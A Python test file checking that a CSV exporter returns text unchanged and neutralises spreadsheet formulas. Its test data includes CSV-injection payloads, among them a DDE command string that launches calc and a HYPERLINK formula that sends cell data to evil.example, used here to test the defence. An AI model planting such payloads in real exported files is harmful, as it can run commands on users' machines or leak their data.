"""A table is read back as it was written, and nothing in it runs."""

from __future__ import annotations

import csv
import io
import math

import pytest
from hypothesis import given
from hypothesis import strategies as st

from biocoach.review.exporting.cells import cell, table, text_of
from tests.strategies import proven

texts = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00"))
FORMULAS = ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\uff1d1")


def read(written: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(written.decode("utf-8"), newline=""), strict=True))


@proven(200)
@given(texts)
def test_every_text_comes_back(text: str) -> None:
    assert text_of(cell(text)) == text


@proven(200)
@given(st.lists(st.lists(texts, min_size=2, max_size=2), max_size=4))
def test_every_table_comes_back(rows: list[list[str]]) -> None:
    found = read(b"".join(table(("a", "b"), rows)))
    assert found[0] == ["a", "b"]
    assert [[text_of(value) for value in row] for row in found[1:]] == rows


@proven(200)
@given(st.sampled_from(FORMULAS), texts)
def test_no_cell_begins_as_a_formula(risky: str, text: str) -> None:
    assert cell(risky + text)[0] == "'"


STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "\uff1d", "\uff0b", "\uff0d", "\uff20")
UNSEEN = ("", " ", "\xa0", "\ufeff", "\u200b", "\u3000", "\x00")
CALLS = ("cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example/?"&A1)', "1+1", 'DDE("a";"b";"c")')


def test_none_of_a_hundred_formulas_begins_a_cell() -> None:
    formulas = [f"{unseen}{start}{call}" for unseen in UNSEEN for start in STARTS for call in CALLS]
    assert len(formulas) > 100
    rows = read(b"".join(table(("a", "b"), [(one, "x") for one in formulas])))[1:]
    assert [row[0][0] for row in rows] == ["'"] * len(formulas)
    assert [text_of(row[0]) for row in rows] == formulas


@proven(100)
@given(st.floats(allow_nan=False, allow_infinity=False) | st.integers())
def test_a_number_stays_one(value: float) -> None:
    assert float(cell(value)) == value or isinstance(value, int)
    assert "'" not in cell(value)


def test_what_is_not_known_is_empty_and_what_is_no_number_is_refused() -> None:
    assert (cell(None), cell(0), cell(True), cell(-2.5)) == ("", "0", "yes", "-2.5")
    for wrong in (math.nan, math.inf):
        with pytest.raises(ValueError, match="no number"):
            cell(wrong)
    with pytest.raises(TypeError):
        cell([1])


def test_lines_end_as_the_standard_says_and_half_a_letter_breaks_nothing() -> None:
    written = b"".join(table(("a", "b"), [('say "no"', "x\ud800")]))
    assert written == b'a,b\r\n"say ""no""",x?\r\n'
